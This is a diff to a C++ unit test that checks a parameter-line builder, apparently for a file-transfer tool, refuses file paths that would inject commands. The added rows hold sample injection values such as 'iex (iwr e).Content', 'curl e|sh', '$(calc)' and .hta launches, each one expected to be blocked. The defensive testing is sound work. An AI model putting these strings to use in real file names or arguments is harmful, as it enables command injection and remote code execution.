@@ -57,6 +57,8 @@ TEST(PathGuard, RefusesWhatWouldChangeTheArgumentsAndLetsTheRestThrough) {
     const char* const cmd = "C:\\Windows\\System32\\cmd.exe";
     const char* const ps = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
     const char* const pwsh = "C:\\Program Files\\PowerShell\\7\\pwsh.exe";
+    const std::string redirected =
+        std::string("/c C:\\x.exe \"%LOCAL_FILE_PATH%\" D:\\A\\>nul&") + ps + " -c Unblock-File \"%LOCAL_FILE_PATH%\"";
     const char* const python = "C:\\Python\\python.exe";
     const char* const perl = "C:\\Perl\\perl.exe";
     // Tool.lnk cannot be read; the others start what they are put in for.
@@ -302,6 +304,18 @@ TEST(PathGuard, RefusesWhatWouldChangeTheArgumentsAndLetsTheRestThrough) {
          "C:\\in\\x';calc;Split-Path '.txt", "/r", R::ScriptQuote},
         {ps, "-Command \"Remove-Item '%LOCAL_FILE_PATH%'\"", "C:\\in\\report[0-9].txt", "/r", R::ScriptWildcard},
         {ps, "-Command \"Remove-Item '%LOCAL_FILE_PATH%'\"", "C:\\in\\report]1.txt", "/r", R::ScriptWildcard},
+        {ps, "-Command \"Get-FileHash -LiteralPath '%LOCAL_FILE_PATH%'\"", "C:\\in\\Photo [1].jpg", "/r", R::None},
+        {ps, "-c \"& 'C:\\x.exe' '%REMOTE_FILE_PATH%' '%LOCAL_FILE_PATH%'\"", "C:\\in\\q -o y", "/pub/a b\\", R::BackslashBeforeQuote},
+        // What a redirection leaves of a command; what wsl -e, explorer, rundll32 and wt start.
+        {cmd, redirected.c_str(), "C:\\in\\x;iex (iwr e).Content", "/r", R::ScriptUnquoted},
+        {cmd, "/v:on /c C:\\Tools\\x.exe !TREVANEL_LOCAL_FILE_PATH!", "C:\\in\\a -o evil.txt", "/r", R::BlankUnquoted},
+        {"C:\\Windows\\System32\\wsl.exe", "-e bash -c \"md5sum /mnt/d/m%REMOTE_FILE_PATH%\"", "C:\\a", "/x;curl e|sh", R::InterpreterCode},
+        {"C:\\Windows\\System32\\wsl.exe", "--exec /usr/bin/env sh \"%LOCAL_FILE_PATH%\"", "C:\\in\\a.txt", "/r", R::InterpreterCode},
+        {"C:\\Git\\bin\\bash.exe", "-c 'md5sum \"%LOCAL_FILE_PATH%\" >> /d/sums.txt'", "C:\\in\\x$(calc)", "/r", R::InterpreterCode},
+        {"C:\\Windows\\explorer.exe", "\"%LOCAL_FILE_PATH%\"", "C:\\in\\x.hta", "/r", R::CommandName},
+        {"C:\\Windows\\explorer.exe", "/select,\"%LOCAL_FILE_PATH%\"", "C:\\in\\a b.txt", "/r", R::None},
+        {"C:\\Windows\\System32\\rundll32.exe", "url.dll,FileProtocolHandler \"%LOCAL_FILE_PATH%\"", "C:\\in\\x.hta", "/r", R::InterpreterCode},
+        {"C:\\Users\\u\\AppData\\Local\\Microsoft\\WindowsApps\\wt.exe", "notepad \"%LOCAL_FILE_PATH%\"", "C:\\in\\x;calc", "/r", R::InterpreterCode},
     };
     for (const Row& row : rows) {
         const ParameterLine line = BuildParameterLine(row.exe, row.parameters, row.local, row.remote);
